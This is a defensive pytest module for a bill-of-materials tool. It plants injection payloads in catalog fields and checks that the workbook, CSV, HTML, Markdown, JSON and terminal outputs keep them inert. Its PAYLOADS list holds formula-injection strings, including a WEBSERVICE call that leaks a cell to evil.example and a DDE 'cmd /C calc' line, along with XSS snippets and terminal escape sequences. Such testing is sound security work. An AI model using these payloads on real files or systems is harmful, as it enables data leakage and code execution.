"""Formula, markup and escape-sequence injection: a catalog overlay full of payloads, named by the
scenario's own ``catalogs:`` key, and every output opened as the people who receive it open it:
the workbooks in openpyxl and recalculated by LibreOffice, the CSV through LibreOffice's CSV
import (formula evaluation on), the HTML in Chromium, the Markdown, the JSON and the terminal."""

from __future__ import annotations

import csv
import io
import itertools
import json
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest
import yaml

from bom.catalog.load import builtin_dir
from bom.outputs.writers.common import cell_text
from bom.outputs.writers.documents import CSV_COLS
from tests.hostile.conftest import check, run
from tests.outputs.writers.test_report import FLAGS, chromium
from tests.spreadsheet import _PROFILE, recalc, soffice

#: Subprocesses, a spreadsheet engine, a browser or generated inputs: left out of the fast loop.
pytestmark = pytest.mark.slow

PAYLOADS = [
    "=1+1",
    '==HYPERLINK("http://evil.example/","Open datasheet")',
    '=HYPERLINK("http://evil.example/x","click")',
    '=WEBSERVICE("http://evil.example/?leak="&A1)',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "x\r=2+2",
    "x\n=3+3",
    "x\r\n=4+4",
    " =5+5",
    "\uff1d6+6",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "\x1b[31mred\x1b[0m\x1b]0;pwned\x07\x1b[2J",
    "\x00nul\x01\x08\x0b\x7f\x9b31m",
]
#: Text that shows a payload ran: a formula's result or a link's label.
RAN = ("Open datasheet", "click")
NUMBERS = {"quantity", "unit_price_usd", "unit_price_low_usd", "unit_price_high_usd", "extended_usd", "unit_power_w",
           "extended_power_w", "as_of"}
#: Rows the build below uses: those sold in one piece first (every text field of theirs is in the BOM).
ROWS = {"platforms": ["dgx-h100"], "switches": ["qm9700", "sn2201", "sn4600c", "sn5600"], "modules": ["mma4z00-ns"],
        "fibres": ["mfp7e10-n"], "cables": ["mcp7y10-n", "mfa1a00-c"]}
FIELDS = ("vendor", "part_number", "description", "source")
SCENARIO = """\
name: evil
platform: dgx-h100
gpus: 128
fabrics: {compute: {}, storage: {switch: sn5600}, oob: {switch: sn2201}}
catalogs: [evil]
"""


#: payload -> ids of the rows that carry it (a row the build does not use shows none of its text).
CARRIERS: dict[str, set[str]] = {}


def _overlay(folder: Path) -> None:
    """The built-in rows of a small build with every text field a payload."""
    folder.mkdir()
    slots = itertools.cycle(PAYLOADS)
    for kind, ids in ROWS.items():
        name = {"fibres": "fibre"}.get(kind, kind)
        rows = [r for r in yaml.safe_load((builtin_dir() / f"{name}.yaml").read_text())[kind] if r["id"] in ids]
        for row in rows:
            for key in FIELDS:
                row[key] = next(slots)
                if not (key == "part_number" and row.get("lengths")):   # sold by length: the length's part shows
                    CARRIERS.setdefault(row[key], set()).add(row["id"])
            row["notes"] = next(slots)
            for sold in row.get("lengths", []):
                sold["part_number"] = next(slots)   # shows only where the build takes that length
        (folder / f"{kind}.yaml").write_text(yaml.safe_dump({kind: rows}))


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    root = tmp_path_factory.mktemp("inject")
    _overlay(root / "evil")
    scenario = root / "s.yaml"
    scenario.write_text(SCENARIO + "description: " + json.dumps(" ".join(PAYLOADS)) + "\n")
    out = root / "out"
    check(run("build", str(scenario), "-o", str(out), "-q"), code=0)
    check(run("compare", str(scenario), "-o", str(out), "-q", "--platforms", "dgx-h100"), code=0)
    return root, out


def _formulas(path: Path) -> list[tuple[str, str]]:
    wb = openpyxl.load_workbook(path)
    return [(f"{ws.title}!{c.coordinate}", str(c.value)) for ws in wb.worksheets for row in ws.iter_rows()
            for c in row if c.data_type == "f"]


def _texts(path: Path, data_only: bool = False) -> dict[str, object]:
    wb = openpyxl.load_workbook(path, data_only=data_only)
    return {f"{ws.title}!{c.coordinate}": c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.value is not None}


def _read_back(payload: str) -> str:
    """The payload as a workbook holds it."""
    return cell_text(payload)


def _payload_cells(path: Path) -> dict[str, str]:
    """Cells holding a payload (the whole text, or a fibre line's description that starts with it)."""
    wanted = [_read_back(p) for p in PAYLOADS]
    return {k: v for k, v in _texts(path).items() if isinstance(v, str) and any(v.startswith(w) for w in wanted)}


@pytest.mark.parametrize("name", ["evil.xlsx", "evil-compare.xlsx"])
def test_workbooks_hold_payloads_as_text(built, name):
    _, out = built
    path = out / name
    ours = _formulas(path)
    assert ours, "the workbook has its own formulas"
    for ref, formula in ours:
        assert not any(m in formula for m in ("HYPERLINK", "WEBSERVICE", "cmd", "evil", "1+1", "SUM(1")), ref
    cells = _payload_cells(path)
    seen = {p for p in PAYLOADS if any(v.startswith(_read_back(p)) for v in cells.values())}
    ids = {i for found in CARRIERS.values() for i in found}
    used = {v for v in _texts(path).values() if v in ids}   # the rows this workbook's BOM lines come from
    expected = {p for p, ids in CARRIERS.items() if ids & used}
    assert len(expected) >= len(PAYLOADS) - 3, "the build must carry nearly every payload into the BOM"
    assert expected <= seen, expected - seen
    wb = openpyxl.load_workbook(path)
    for ref in cells:
        sheet, coord = ref.split("!")
        cell = wb[sheet][coord]
        assert cell.data_type == "s" and cell.hyperlink is None, ref


def _lines(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


@pytest.mark.parametrize("name", ["evil.xlsx", "evil-compare.xlsx"])
def test_workbooks_recalculated_by_libreoffice_keep_payloads_as_text(built, name, tmp_path):
    _, out = built
    before = _payload_cells(out / name)
    after = _texts(recalc(out / name, tmp_path), data_only=True)
    for ref, text in before.items():
        got = after.get(ref)
        assert isinstance(got, str) and _lines(got) == _lines(text), (ref, text, got)
    assert not [v for v in after.values() if isinstance(v, str) and v in RAN]


def test_csv_through_libreoffice_import_has_no_formula_and_no_extra_row(built, tmp_path):
    _, out = built
    csv_path = out / "evil.csv"
    profile = tmp_path / "profile"
    (profile / "user").mkdir(parents=True)
    (profile / "user" / "registrymodifications.xcu").write_text(_PROFILE)
    conv = tmp_path / "conv"
    # Field 44 (,), text 34 ("), UTF-8, line 1, ..., token 13 "evaluate formulas" on: as a user opening it.
    subprocess.run([soffice(), f"-env:UserInstallation=file://{profile}", "--headless", "--norestore",
                    "--infilter=CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true", "--convert-to",
                    "xlsx:Calc MS Excel 2007 XML", "--outdir", str(conv), str(csv_path)],
                   check=True, capture_output=True, timeout=180)
    book = conv / "evil.xlsx"
    assert book.exists()
    assert _formulas(book) == []
    values = _texts(book, data_only=True)
    lines = json.loads((out / "evil.json").read_text())["lines"]
    ws = openpyxl.load_workbook(book).active
    assert ws.max_row == len(lines) + 1, "a line break in a text started a new row"
    assert not [v for v in values.values() if isinstance(v, str) and v in RAN]
    text_columns = [i for i, name in enumerate(CSV_COLS) if name not in NUMBERS]
    for n, row in enumerate(csv.reader(io.StringIO(csv_path.read_text(), newline="")), start=1):
        for i in text_columns:
            got = ws.cell(n, i + 1).value
            if row[i]:
                assert isinstance(got, str) and _lines(got) in (_lines(row[i]), _lines(row[i])[1:]), (n, row[i], got)


@pytest.mark.parametrize("name", ["evil.html", "evil-compare.html"])
def test_html_in_chromium_runs_no_script(built, name, tmp_path):
    _, out = built
    html = (out / name).read_text()
    assert "<script" not in html and "<img" not in html and "\x1b" not in html and "\x00" not in html
    exe = chromium()
    dom = subprocess.run([exe, *FLAGS, f"--user-data-dir={tmp_path / 'p'}", "--dump-dom", (out / name).as_uri()],
                         capture_output=True, text=True, timeout=120)
    assert "<script" not in dom.stdout and "onerror" not in dom.stdout.replace("onerror=alert(2)&gt;", "")
    assert "alert" not in dom.stderr and "CONSOLE" not in dom.stderr


def test_markdown_json_and_csv_bytes_hold_no_escape_sequence(built):
    _, out = built
    for path in out.iterdir():
        if path.suffix == ".xlsx":    # a zip: its cells are checked above
            continue
        data = path.read_bytes()
        assert b"\x1b" not in data and b"\x07" not in data and b"\x00" not in data, path.name
        if path.suffix == ".json":
            json.loads(data)
    md = (out / "evil.md").read_text()
    assert "<script>" not in md


@pytest.mark.parametrize("args", [["catalog", "list"], ["catalog", "show", "qm9700"], ["catalog", "show", "mfp7e10-n"]])
def test_terminal_gets_no_escape_sequence(built, args):
    root, _ = built
    r = run(*args, "--catalog", str(root / "evil"))
    check(r, code=0)
    assert "\x1b" not in r.stdout and "\x07" not in r.stdout and "\x9b" not in r.stdout and "\r" not in r.stdout


def test_soffice_and_chromium_present_in_ci():
    """The checks above skip without LibreOffice and Chromium; CI installs both (scripts/test.sh)."""
    if shutil.which("soffice") is None or shutil.which("chromium") is None:
        pytest.skip("LibreOffice or Chromium missing here")
